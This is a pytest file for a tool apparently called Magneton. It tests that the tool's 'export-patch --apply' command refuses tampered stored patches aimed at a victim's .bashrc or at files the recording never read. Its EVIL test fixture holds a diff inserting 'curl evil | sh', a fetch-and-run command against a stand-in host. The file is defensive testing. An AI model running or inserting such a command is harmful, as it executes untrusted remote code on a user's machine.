"""`export-patch --apply` writes only where the recording belongs (issue 28, items 2, 13).

The attack of the issue, redone through the CLI: a stored diff row edited with the DB
engine's own Python API (through Magneton's DB handle) so that the patch of a finding
aims at a `.bashrc` in another folder. Each variant must be refused in one line, exit
non-zero, with the victim file and the user's script untouched:

* the row edited without its checksum (graphdb/matches.py `seal`): refused on load;
* the row re-sealed (whoever can write the DB can recompute a checksum): refused by the
  confinement, since the folder is outside the recorded script's folder and repository;
* a patch aimed at a file inside the repository that the recording never read, or one
  whose text changes another file than the one it names: refused as well.

The genuine patch still applies, and `--apply` without `-o` leaves no temporary patch.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest
import warm_cli

from magneton.graphdb import open_db
from magneton.graphdb.matches import SEAL_KEY, load_diff, seal

EFFICIENT = """import torch


def setup():
    torch.manual_seed(0)
    return (torch.randn(256, 256),)


def main(x):
    return (x @ x).relu().sum()
"""
WASTEFUL = """import torch


def setup():
    torch.manual_seed(0)
    return (torch.randn(256, 256),)


def main(x):
    y = x.double() @ x.double()
    return y.float().relu().sum()
"""
EVIL = "diff --git a/{f} b/{f}\n--- a/{f}\n+++ b/{f}\n@@ -1 +1 @@\n-echo hi\n+curl evil | sh\n"


def magneton(*args: str, cwd: Path | None = None, env: dict | None = None):
    return warm_cli.run(args, cwd=cwd, env={**os.environ, **(env or {})}, timeout=600)


def one_line(proc: subprocess.CompletedProcess) -> str:
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in proc.stderr, proc.stderr
    return lines[0]


@pytest.fixture(scope="module")
def stored(tmp_path_factory) -> tuple[Path, int, int]:
    """A git repository with both scripts and a DB holding their runs and their diff,
    and the position and id of the first finding that carries a mechanical patch of
    wasteful.py (which finding saves most depends on the machine's load)."""
    root = tmp_path_factory.mktemp("patches")
    repo = root / "repo"
    repo.mkdir()
    (repo / "efficient.py").write_text(EFFICIENT)
    (repo / "wasteful.py").write_text(WASTEFUL)
    (repo / "Makefile").write_text("echo hi\n")  # in the repository, never read by a run
    git = ["git", "-c", "user.email=t@t", "-c", "user.name=t"]
    subprocess.run(["git", "init", "-q"], cwd=repo, check=True)
    subprocess.run(["git", "add", "."], cwd=repo, check=True)
    subprocess.run([*git, "commit", "-qm", "scripts"], cwd=repo, check=True)
    db = root / "db"
    for script, run in (("efficient.py", "pa"), ("wasteful.py", "pb")):
        p = magneton("record", script, "--db", str(db), "--run", run, "-q", cwd=repo)
        assert p.returncode == 0, p.stderr
    p = magneton("diff", "--db", str(db), "pa", "pb", "--no-rerun", cwd=repo)
    assert p.returncode == 0, p.stderr
    with open_db(db, create=False) as h:
        result, _ = load_diff(h, "pa", "pb")
    patched = [
        (i, f.id)
        for i, f in enumerate(result.findings)
        if f.fix is not None and f.fix.patch and f.fix.file == "wasteful.py"
    ]
    assert patched, result.findings
    return root, *patched[0]


@pytest.fixture
def case(stored: tuple[Path, int, int], tmp_path: Path) -> dict:
    """This test's own copy of the repository, its DB (the runs' scripts point at the
    shared repository, so the copy is of the DB only) and a victim home."""
    root, index, fid = stored
    db = shutil.copytree(root / "db", tmp_path / "db")
    victim = tmp_path / "victim_home"
    victim.mkdir()
    (victim / ".bashrc").write_text("echo hi\n")
    return {"db": db, "repo": root / "repo", "victim": victim, "index": index, "id": fid}


def _edit_fix(case: dict, reseal: bool, drop_seal: bool = False, **fix: str) -> None:
    """Change the patched finding's fix in the stored row with the engine's query API (the attack),
    through Magneton's own DB handle: keeping the old checksum, recomputing it
    (`reseal`), or removing it (`drop_seal`)."""
    with open_db(case["db"], create=False) as h:
        uid, blob = h.query("MATCH (d:Diff) RETURN d.uid, d.result_json").rows[0]
        data = json.loads(blob)
        data["result"]["findings"][case["index"]]["fix"].update(fix)
        if drop_seal:
            data.pop(SEAL_KEY)
        text = seal(data) if reseal else json.dumps(data)
        h.query("MATCH (d:Diff {uid: $u}) SET d.result_json = $j", {"u": uid, "j": text})


def _apply(case: dict, env: dict | None = None) -> subprocess.CompletedProcess:
    return magneton(
        *("export-patch", "--db", str(case["db"]), "pa", "pb"),
        *("--finding", str(case["id"]), "--apply", "--no-rerun"),
        env=env,
    )


def _untouched(case: dict) -> None:
    assert (case["victim"] / ".bashrc").read_text() == "echo hi\n"
    assert (case["repo"] / "wasteful.py").read_text() == WASTEFUL
    assert (case["repo"] / "Makefile").read_text() == "echo hi\n"


def test_a_row_edited_outside_magneton_is_refused(case):
    _edit_fix(
        case,
        reseal=False,
        base_dir=str(case["victim"]),
        file=".bashrc",
        patch=EVIL.format(f=".bashrc"),
    )
    p = _apply(case)
    assert p.returncode == 2 and "does not match its checksum" in one_line(p)
    assert "applied" not in p.stderr
    _untouched(case)


def test_a_resealed_row_aimed_outside_the_repository_is_refused(case):
    _edit_fix(
        case,
        reseal=True,
        base_dir=str(case["victim"]),
        file=".bashrc",
        patch=EVIL.format(f=".bashrc"),
    )
    p = _apply(case)
    line = one_line(p)
    assert p.returncode == 2 and "outside the recorded scripts' folders" in line, line
    assert p.stdout == ""  # refused before the patch is even printed
    _untouched(case)


def test_a_file_the_recording_never_read_is_refused(case):
    _edit_fix(
        case,
        reseal=True,
        base_dir=str(case["repo"]),
        file="Makefile",
        patch=EVIL.format(f="Makefile"),
    )
    p = _apply(case)
    line = one_line(p)
    assert p.returncode == 2 and "'Makefile', which is not a file the recordings" in line
    _untouched(case)


def test_a_patch_that_changes_another_file_than_it_names_is_refused(case):
    # the row names the script the recording read, the patch text edits the Makefile
    _edit_fix(case, reseal=True, patch=EVIL.format(f="Makefile"))
    p = _apply(case)
    line = one_line(p)
    assert p.returncode == 2 and "must change 'wasteful.py' only" in line, line
    _untouched(case)


def test_the_genuine_patch_applies_and_leaves_no_temporary_file(case, tmp_path):
    tmp = tmp_path / "tmp"
    tmp.mkdir()
    p = _apply(case, env={"TMPDIR": str(tmp)})
    try:
        assert p.returncode == 0, p.stderr
        assert "applied to" in p.stderr
        assert (case["repo"] / "wasteful.py").read_text() != WASTEFUL
        assert list(tmp.iterdir()) == []  # the patch handed to git is gone
    finally:
        (case["repo"] / "wasteful.py").write_text(WASTEFUL)  # the repository is shared


def test_a_stored_diff_without_checksum_is_recomputed_not_trusted(case):
    """A diff stored before checksums existed (or with its checksum removed) is not
    used: `load_diff` says there is none, and export-patch recomputes it from the runs."""
    _edit_fix(case, reseal=False, drop_seal=True)  # same content, no checksum
    with open_db(case["db"], create=False) as h:
        assert load_diff(h, "pa", "pb") is None
    p = magneton(
        *("export-patch", "--db", str(case["db"]), "pa", "pb"),
        *("--finding", str(case["id"]), "--no-rerun"),
    )
    assert p.returncode == 0, p.stderr
    assert "+++ b/wasteful.py" in p.stdout
    with open_db(case["db"], create=False) as h:  # and stored again, sealed
        assert load_diff(h, "pa", "pb") is not None
